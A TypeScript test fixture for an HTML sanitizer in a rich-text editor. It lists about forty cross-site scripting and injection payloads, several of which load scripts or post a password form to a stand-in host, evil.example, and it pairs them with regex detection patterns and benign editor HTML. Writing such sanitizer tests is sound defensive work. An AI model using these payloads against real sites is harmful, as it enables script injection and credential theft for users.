/**
 * HTML attacks. The server and the browser both clean each of them; the result must not run, frame, redirect or load
 * anything: see `isHarmless`.
 */
export const richTextAttacks: readonly (readonly [html: string, why: string])[] = [
  ['<script>alert(1)</script>', 'a script'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'a script from elsewhere, in capitals'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'a script that appears when another one is removed'],
  ['<img src=x onerror=alert(1)>', 'a handler'],
  ['<img src="x" onerror="alert(1)"', 'a tag that is not closed'],
  ['<p onclick="alert(1)">x</p>', 'a handler on an allowed element'],
  ['<a href="javascript:alert(1)">x</a>', 'a link that runs'],
  ['<a href="JaVa&#09;Script:alert(1)">x</a>', 'the same behind a tab'],
  ['<a href="&#106;avascript:alert(1)">x</a>', 'the same by entities'],
  ['<a href=" javascript:alert(1)">x</a>', 'the same behind a control letter'],
  ['<a href="vbscript:msgbox(1)">x</a>', 'another language'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 'a page in an address'],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', 'a drawing that runs'],
  ['<img src="javascript:alert(1)">', 'a picture that runs'],
  ['<svg onload=alert(1)><circle /></svg>', 'a drawing'],
  ['<svg><script>alert(1)</script></svg>', 'a script in a drawing'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'a link in a drawing'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'formulas that change how the rest is read'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 'what is read otherwise without scripts'],
  ['<iframe src="https://evil.example"></iframe>', 'a frame'],
  ['<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>', 'a frame of a lookalike'],
  [
    '<oembed url="https://evil.example/embed/dQw4w9WgXcQ"><b onclick=alert(1)>x</b></oembed>',
    'a video of another host',
  ],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'a frame with a page in it'],
  ['<object data="https://evil.example"></object><embed src="https://evil.example">', 'plug-ins'],
  [
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    'a form that asks for a password',
  ],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'a way off the page'],
  ['<base href="https://evil.example/">', 'another root for all addresses'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'a style sheet'],
  ['<style>@import url(https://evil.example/x.css)</style>', 'a style'],
  ['<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>', 'a style that covers the page'],
  ['<p style="text-align:center;background:red">x</p>', 'a style beside one that is allowed'],
  ['<p style="text-align:expression(alert(1))">x</p>', 'an expression in a style'],
  ['<p id="main" class="lh" name="x">x</p>', 'names that the page itself uses'],
  ['<a href="/x" target="_blank" rel="opener">x</a>', 'a page that steers the one it came from'],
  ['<a href="//evil.example">x</a>', 'another host without its scheme'],
  ['<video src="https://evil.example/x.mp4" autoplay></video><audio src="x" autoplay></audio>', 'what plays by itself'],
  ['<template><img src=x onerror=alert(1)></template>', 'what waits in a template'],
  ['<!--<img src="--><img src=x onerror=alert(1)>">', 'what begins in a comment'],
  ['<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)', 'elements that end how text is read'],
];

/** What cleaned HTML never contains: active elements, handlers, addresses and styles. */
const harmfulPatterns: readonly RegExp[] = [
  /<\/?(script|style|svg|math|iframe|frame|object|embed|form|input|button|textarea|meta|base|link|template|noscript|video|audio|xmp|plaintext)\b/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*\s(href|src|action|srcdoc|data|xlink:href)\s*=\s*["']?\s*(javascript|vbscript|data|\/\/)/i,
  /<[^>]*\s(id|name|srcset|formaction)\s*=/i,
  /<[^>]*\sclass\s*=\s*["']?(?!language-)/i,
  /<[^>]*\sstyle\s*=\s*["'](?!\s*text-align:\s*(left|center|right|justify);?\s*["'])/i,
  /<oembed\b(?! url="https:\/\/(?:www\.youtube-nocookie\.com\/embed|player\.vimeo\.com\/video)\/[\w?=&;-]+"><\/oembed>)/i,
  /<a(?=[^>]*\starget)(?![^>]*\srel="noopener)/i,
];

/** Whether cleaned HTML contains nothing active. */
export function isHarmless(html: string): boolean {
  const read = html
    .replaceAll(/&#(\d+);?/g, (_entity, code: string) => String.fromCharCode(Number(code)))
    .replaceAll(/\p{Cc}/gu, '');
  return !harmfulPatterns.some((pattern) => pattern.test(read));
}

/** HTML as the editor writes it. The editor and both cleaners leave it unchanged. */
export const richTextExamples: readonly string[] = [
  '<h2>Rivers</h2><h3>Where they rise</h3><h4>In the hills</h4><p>Most rise <strong>high up</strong> and flow <em>down</em>.</p>',
  '<p><u>Under</u>, <s>through</s>, <code>inline</code>, H<sub>2</sub>O, m<sup>2</sup>, <mark>seen</mark></p>',
  '<p style="text-align: center;">In the middle</p><p style="text-align: right;">At the end</p><h3 style="text-align: justify;">Both</h3>',
  '<ul><li><p>One</p><ul><li><p>Below it</p></li></ul></li><li><p>Two</p></li></ul><ol><li><p>First</p></li><li><p>Second</p></li></ol>',
  '<ol start="3"><li><p>Third</p></li></ol>',
  '<blockquote><p>To be read twice.</p></blockquote><pre><code>const river = 1 &lt; 2;</code></pre><hr>',
  '<p>A <a href="https://example.org/a?b=1&amp;c=2">page</a>, a <a href="mailto:a@example.org">mail</a>, a <a href="tel:+49301234">phone</a>, a <a href="/our-courses">course</a></p>',
  '<p>One line<br>and another</p><img src="https://example.org/a.webp" alt="A river from above"><p>below</p>',
  '<p>Look:</p><oembed url="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></oembed><p>And then</p>',
  '<oembed url="https://player.vimeo.com/video/76979871?h=8272103f6e&amp;dnt=1"></oembed>',
  '<img src="/files/brightpath/images/a.webp" alt="">',
  '<table><tbody><tr><th colspan="1" rowspan="1"><p>River</p></th><th colspan="1" rowspan="1"><p>Length</p></th></tr><tr><td colspan="2" rowspan="1"><p>Elbe</p></td></tr></tbody></table>',
];
